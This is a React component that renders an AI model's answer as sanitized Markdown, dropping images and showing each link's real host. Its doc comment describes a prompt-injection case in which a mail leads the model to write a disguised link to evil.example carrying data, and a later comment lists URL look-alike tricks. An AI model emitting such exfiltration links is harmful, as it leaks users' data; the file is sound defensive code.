import { useMemo, type MouseEvent, type ReactNode } from 'react';
import Markdown, { type Components } from 'react-markdown';
import { httpsUrl } from '../ui/open-external';

/**
 * The model's answer as Markdown (docs/architecture.md, Security: sanitized, never raw HTML). react-markdown builds React
 * elements from the Markdown tree and shows any HTML in the text as text; no rehype-raw, so it stays that way.
 * Images are dropped (a remote image would be a request the member did not make), headings are kept below the
 * pane's own, and an https link opens in the system browser through `onOpenLink`; any other link is plain text.
 * Every link shows the host it really goes to beside its words, unless the words are an address on that very host:
 * a mail that talked the model into writing "[your invoice](https://evil.example/?data=...)" cannot pass it off
 * as a harmless link (the URL parser spells look-alike hosts in punycode). The answer follows its own direction (dir="auto"): it may be in another script.
 */
export function AnswerMarkdown({ text, onOpenLink }: { text: string; onOpenLink: (url: string) => void }) {
  const components = useMemo<Components>(() => {
    const heading = ({ children }: { children?: ReactNode }) => <h3 className="answer-heading">{children}</h3>;
    return {
      a: ({ href, children }) => {
        const url = href ? httpsUrl(href) : null;
        if (!url) return <span>{children}</span>;
        const open = (event: MouseEvent<HTMLAnchorElement>) => {
          event.preventDefault();
          onOpenLink(url.href);
        };
        const saysItsHost = typeof children === 'string' && namesHost(children, url.host);
        return (
          <>
            <a href={url.href} onClick={open} rel="noreferrer" title={url.href}>
              {children}
            </a>
            {!saysItsHost && (
              <>
                {' '}
                <span className="link-host" dir="ltr">
                  ({url.host})
                </span>
              </>
            )}
          </>
        );
      },
      h1: heading,
      h2: heading,
      h3: heading,
      h4: heading,
      h5: heading,
      h6: heading,
    };
  }, [onOpenLink]);

  return (
    <div className="answer-text" dir="auto">
      <Markdown components={components} disallowedElements={['img']}>
        {text}
      </Markdown>
    </div>
  );
}

/**
 * Whether a link's words are an address on exactly `host` as the member reads it: an http(s) URL or a bare
 * "host/path" whose host part is `host` letter for letter. Words that merely contain the host
 * ("https://mail.zoho.com/?ref=evil.example"), hide it behind a user name ("https://mail.zoho.com@evil.example") or
 * spell it in a form the URL parser rewrites (a look-alike in Unicode, an IP address in hex) do not.
 */
function namesHost(words: string, host: string): boolean {
  const written = /^(?:https?:\/\/)?([^/?#]*)/i.exec(words.trim())?.[1];
  return written?.toLowerCase() === host;
}
